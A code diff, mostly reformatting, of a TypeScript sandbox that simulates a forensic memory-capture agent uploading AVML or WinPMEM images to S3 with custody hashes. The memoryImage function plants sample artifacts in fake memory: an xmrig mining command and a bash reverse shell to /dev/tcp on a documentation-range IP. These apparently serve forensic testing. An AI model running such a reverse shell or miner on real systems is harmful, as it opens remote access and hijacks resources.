@@ -31,8 +31,18 @@ export interface AgentResult {
 
 /** The capture tools as the sandbox stages them: stand-in bytes whose SHA-256 plays the role of the pinned release hash. */
 export const SANDBOX_TOOLS = {
-  linux: { key: 'tools/avml-v0.14.0', name: 'avml', version: '0.14.0', bytes: Buffer.from('AVML v0.14.0 x86_64-unknown-linux-musl (sandbox stand-in)\n') },
-  windows: { key: 'tools/winpmem_mini_x64_rc2.exe', name: 'winpmem', version: '4.0.rc2', bytes: Buffer.from('WinPMEM mini x64 rc2 (sandbox stand-in)\n') },
+  linux: {
+    key: 'tools/avml-v0.14.0',
+    name: 'avml',
+    version: '0.14.0',
+    bytes: Buffer.from('AVML v0.14.0 x86_64-unknown-linux-musl (sandbox stand-in)\n'),
+  },
+  windows: {
+    key: 'tools/winpmem_mini_x64_rc2.exe',
+    name: 'winpmem',
+    version: '4.0.rc2',
+    bytes: Buffer.from('WinPMEM mini x64 rc2 (sandbox stand-in)\n'),
+  },
 } as const;
 
 export function toolSha256(platform: 'linux' | 'windows'): string {
@@ -41,7 +51,8 @@ export function toolSha256(platform: 'linux' | 'windows'): string {
 
 /** What operators do once per forensics bucket: stage the capture tools (docs/disk-and-memory.md). */
 export async function stageCaptureTools(sandbox: Sandbox, bucket: string): Promise<void> {
-  for (const tool of Object.values(SANDBOX_TOOLS)) await s3Store(sandbox).putObject(bucket, tool.key, tool.bytes, { checksumAlgorithm: 'SHA256' });
+  for (const tool of Object.values(SANDBOX_TOOLS))
+    await s3Store(sandbox).putObject(bucket, tool.key, tool.bytes, { checksumAlgorithm: 'SHA256' });
 }
 
 class CommandFailure extends Error {
@@ -57,14 +68,19 @@ export async function runDocument(request: AgentRequest): Promise<AgentResult> {
   const out: string[] = [];
   const { instance } = request;
   try {
-    if (instance.ssm.behaviour === 'fail') throw new CommandFailure(1, 'failed to run commands: exit status 1 (the capture tool could not read physical memory)');
+    if (instance.ssm.behaviour === 'fail')
+      throw new CommandFailure(
+        1,
+        'failed to run commands: exit status 1 (the capture tool could not read physical memory)',
+      );
     if (/MemoryCapture$/.test(request.documentName)) await captureMemory(request, out);
     else if (/VolatileData$/.test(request.documentName)) await collectVolatile(request, out);
     else throw new CommandFailure(1, `the sandbox agent cannot run document ${request.documentName}`);
     return { status: 'Success', responseCode: 0, stdout: out.join('\n'), stderr: '' };
   } catch (error) {
     const code = error instanceof CommandFailure ? error.responseCode : 1;
-    const message = error instanceof Error ? `${error.name === 'Error' ? '' : `${error.name}: `}${error.message}` : String(error);
+    const message =
+      error instanceof Error ? `${error.name === 'Error' ? '' : `${error.name}: `}${error.message}` : String(error);
     return { status: 'Failed', responseCode: code, stdout: out.join('\n'), stderr: message };
   }
 }
@@ -79,7 +95,11 @@ function param(request: AgentRequest, name: string): string {
 function authorise(sandbox: Sandbox, grant: PresignedGrant, action: string): void {
   const owner = s3Store(sandbox).findBucket(grant.bucket)?.owner;
   const role = sandbox.account(grant.caller.accountId)?.roles.find((r) => r.roleName === grant.caller.roleName);
-  if (!owner || owner.accountId !== grant.caller.accountId || role?.deny.some((pattern) => actionMatches(pattern, action))) {
+  if (
+    !owner ||
+    owner.accountId !== grant.caller.accountId ||
+    role?.deny.some((pattern) => actionMatches(pattern, action))
+  ) {
     throw awsError('AccessDenied', 'Access Denied', { httpStatusCode: 403 });
   }
 }
@@ -112,12 +132,18 @@ async function fetchTool(request: AgentRequest, out: string[]): Promise<void> {
 }
 
 /** Deterministic memory contents: a seeded 1 MiB block, each MiB stamped with its index, the story's strings in MiB 1. */
-export function memoryImage(instance: InstanceState): { size: number; chunks(start: number, end: number): Generator<Buffer> } {
+export function memoryImage(instance: InstanceState): {
+  size: number;
+  chunks(start: number, end: number): Generator<Buffer>;
+} {
   const size = instance.memoryMiB * MIB;
   const seed = createHash('sha256').update(`custody-sandbox-memory:${instance.instanceId}`).digest();
   const base = Buffer.alloc(MIB);
-  for (let offset = 0; offset < MIB; offset += 32) createHash('sha256').update(seed).update(String(offset)).digest().copy(base, offset);
-  const story = Buffer.from('\0xmrig -o 192.0.2.77:3333 --donate-level 1\0bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\0');
+  for (let offset = 0; offset < MIB; offset += 32)
+    createHash('sha256').update(seed).update(String(offset)).digest().copy(base, offset);
+  const story = Buffer.from(
+    '\0xmrig -o 192.0.2.77:3333 --donate-level 1\0bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\0',
+  );
   const mib = (index: number): Buffer => {
     const block = Buffer.from(base);
     createHash('sha256').update(seed).update(`mib:${index}`).digest().copy(block, 0);
@@ -147,7 +173,12 @@ function lime(size: number): Buffer {
 }
 
 /** PUTs one part through its presigned UploadPart URL; returns the part's SHA-256 (base64) as the script prints it. */
-async function putPart(request: AgentRequest, url: string, chunks: Iterable<Buffer>, full?: ReturnType<typeof createHash>): Promise<{ bytes: number; sha256: string }> {
+async function putPart(
+  request: AgentRequest,
+  url: string,
+  chunks: Iterable<Buffer>,
+  full?: ReturnType<typeof createHash>,
+): Promise<{ bytes: number; sha256: string }> {
   const partHash = createHash('sha256');
   let bytes = 0;
   async function* body(): AsyncGenerator<Uint8Array> {
@@ -162,7 +193,13 @@ async function putPart(request: AgentRequest, url: string, chunks: Iterable<Buff
     const grant = verifyPresignedUrl(request.sandbox, 'PUT', url);
     authorise(request.sandbox, grant, 's3:PutObject');
     const store = s3Store(request.sandbox);
-    await uploadPart(store, findUpload(store, grant.bucket, grant.key, grant.params.uploadId), Number(grant.params.partNumber), body(), {});
+    await uploadPart(
+      store,
+      findUpload(store, grant.bucket, grant.key, grant.params.uploadId),
+      Number(grant.params.partNumber),
+      body(),
+      {},
+    );
   } catch (error) {
     return httpFailure(`uploading to ${new URL(url).pathname}`, error);
   }
@@ -176,7 +213,11 @@ async function captureMemory(request: AgentRequest, out: string[]): Promise<void
   const image = memoryImage(request.instance);
   const name = request.instance.platform === 'windows' ? 'memory.raw' : 'memory.lime';
   const parts = Math.ceil(image.size / partSize);
-  if (parts > urls.length) throw new CommandFailure(4, `image of ${image.size} bytes needs ${parts} parts but only ${urls.length} upload URLs were given`);
+  if (parts > urls.length)
+    throw new CommandFailure(
+      4,
+      `image of ${image.size} bytes needs ${parts} parts but only ${urls.length} upload URLs were given`,
+    );
   const full = createHash('sha256');
   for (let n = 1; n <= parts; n += 1) {
     if (request.instance.ssm.behaviour === 'dies-mid-capture' && n > Math.ceil(parts / 2)) {
@@ -205,6 +246,8 @@ async function collectVolatile(request: AgentRequest, out: string[]): Promise<vo
     const bytes = Buffer.from(data[name]);
     const part = await putPart(request, param(request, VOLATILE_PARAMETERS[name]), [bytes]);
     out.push(`custody: part object=${name} n=1 bytes=${part.bytes} sha256=${part.sha256}`);
-    out.push(`custody: object name=${name} bytes=${bytes.length} sha256=${createHash('sha256').update(bytes).digest('hex')} parts=1`);
+    out.push(
+      `custody: object name=${name} bytes=${bytes.length} sha256=${createHash('sha256').update(bytes).digest('hex')} parts=1`,
+    );
   }
 }
